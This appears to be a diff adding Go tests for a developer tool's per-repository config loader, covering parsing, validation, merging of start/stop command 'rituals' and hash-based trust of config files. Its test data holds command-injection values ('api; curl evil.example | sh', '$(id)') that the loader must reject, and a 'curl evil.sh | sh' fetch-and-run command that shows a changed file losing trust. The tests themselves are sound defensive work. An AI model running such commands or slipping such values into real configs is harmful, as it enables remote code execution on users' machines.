@@ -0,0 +1,144 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestLoadRepoConfig(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	root := t.TempDir()
+	path := filepath.Join(root, RepoConfigFile)
+
+	t.Run("reads project, tags and rituals", func(t *testing.T) {
+		writeFile(t, path, `project: api
+tags: [backend, work]
+rituals:
+  start:
+    - name: Install
+      command: npm ci
+  stop:
+    - name: Down
+      command: docker compose down
+      dir: deploy
+`)
+		repo, err := LoadRepoConfig(path)
+		require.NoError(t, err)
+		assert.Equal(t, "api", repo.Project)
+		assert.Equal(t, []string{"backend", "work"}, repo.Tags)
+		assert.Equal(t, root, repo.Root())
+		assert.True(t, repo.HasRituals())
+		require.Len(t, repo.Rituals.Start, 1)
+		assert.Equal(t, "npm ci", repo.Rituals.Start[0].Command)
+		assert.Len(t, repo.Hash, 64)
+	})
+
+	t.Run("an empty file is valid", func(t *testing.T) {
+		writeFile(t, path, "")
+		repo, err := LoadRepoConfig(path)
+		require.NoError(t, err)
+		assert.Empty(t, repo.Project)
+		assert.False(t, repo.HasRituals())
+	})
+
+	t.Run("rejects unknown keys", func(t *testing.T) {
+		writeFile(t, path, "projcet: api\n")
+		_, err := LoadRepoConfig(path)
+		assert.ErrorContains(t, err, "field projcet not found")
+	})
+
+	t.Run("rejects project names and tags a shell could interpret", func(t *testing.T) {
+		writeFile(t, path, "project: \"api; curl evil.example | sh\"\ntags: [ok, \"$(id)\"]\n")
+		_, err := LoadRepoConfig(path)
+		assert.ErrorContains(t, err, `project: invalid name "api; curl evil.example | sh"`)
+		assert.ErrorContains(t, err, `tags[1]: invalid tag "$(id)"`)
+	})
+
+	t.Run("rejects invalid commands", func(t *testing.T) {
+		writeFile(t, path, "rituals:\n  start:\n    - name: Empty\n")
+		_, err := LoadRepoConfig(path)
+		assert.ErrorContains(t, err, `rituals.start[0]: command "Empty" is empty`)
+	})
+}
+
+func TestRepoConfig_Apply(t *testing.T) {
+	root := t.TempDir()
+	repo := &RepoConfig{
+		Path: filepath.Join(root, RepoConfigFile),
+		Rituals: RepoRituals{
+			Start: []Command{
+				{Name: "Install", Command: "npm ci"},
+				{Name: "Migrate", Command: "make migrate", Dir: "db", Needs: []string{"pull"}},
+			},
+		},
+	}
+	cfg := &Config{Rituals: Rituals{Start: RitualSet{
+		Global:     []Command{{Name: "Pull", ID: "pull", Command: "git pull"}},
+		PerProject: map[string][]Command{"api": {{Name: "Mine", Command: "echo mine"}}},
+	}}}
+
+	require.NoError(t, repo.Apply(cfg, "api"))
+	commands := cfg.Rituals.Start.PerProject["api"]
+	require.Len(t, commands, 3)
+	assert.Equal(t, "Mine", commands[0].Name)
+	assert.Equal(t, root, commands[1].Dir)
+	assert.Equal(t, filepath.Join(root, "db"), commands[2].Dir)
+	assert.Empty(t, cfg.Rituals.Stop.PerProject)
+
+	t.Run("needs must name a command in the ritual", func(t *testing.T) {
+		repo.Rituals.Start = nil
+		repo.Rituals.Stop = []Command{{Name: "Down", Command: "make down", Needs: []string{"Missing"}}}
+		err := repo.Apply(&Config{}, "api")
+		assert.ErrorContains(t, err, "rituals.stop")
+	})
+}
+
+func TestRepoConfig_Trust(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	path := filepath.Join(t.TempDir(), RepoConfigFile)
+	writeFile(t, path, "rituals:\n  start:\n    - name: Install\n      command: npm ci\n")
+
+	repo, err := LoadRepoConfig(path)
+	require.NoError(t, err)
+	trusted, err := repo.Trusted()
+	require.NoError(t, err)
+	assert.False(t, trusted)
+
+	require.NoError(t, repo.Trust())
+	trusted, err = repo.Trusted()
+	require.NoError(t, err)
+	assert.True(t, trusted)
+	assert.FileExists(t, filepath.Join(home, ".rune", "trust", repo.Hash))
+
+	// Changing the file needs trust again
+	writeFile(t, path, "rituals:\n  start:\n    - name: Install\n      command: curl evil.sh | sh\n")
+	changed, err := LoadRepoConfig(path)
+	require.NoError(t, err)
+	trusted, err = changed.Trusted()
+	require.NoError(t, err)
+	assert.False(t, trusted)
+
+	// The same content elsewhere is not trusted either
+	copyPath := filepath.Join(t.TempDir(), RepoConfigFile)
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	writeFile(t, copyPath, string(data))
+	require.NoError(t, changed.Trust())
+	copied, err := LoadRepoConfig(copyPath)
+	require.NoError(t, err)
+	trusted, err = copied.Trusted()
+	require.NoError(t, err)
+	assert.False(t, trusted)
+
+	removed, err := Untrust(path)
+	require.NoError(t, err)
+	assert.Equal(t, 2, removed)
+	trusted, err = changed.Trusted()
+	require.NoError(t, err)
+	assert.False(t, trusted)
+}